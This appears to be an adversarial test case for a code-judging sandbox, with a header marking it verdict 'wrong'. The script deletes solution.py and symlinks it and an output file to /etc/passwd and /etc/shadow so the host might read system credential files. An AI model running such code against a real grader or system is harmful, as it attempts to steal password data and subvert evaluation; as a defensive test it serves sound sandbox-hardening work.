# Tries: to leave links where the host might read a file
# Form: stream
# Verdict: wrong
# Witness: "linked\n"

import os
os.remove("solution.py")
os.symlink("/etc/passwd", "solution.py")
os.symlink("/etc/shadow", "output")
print("linked")
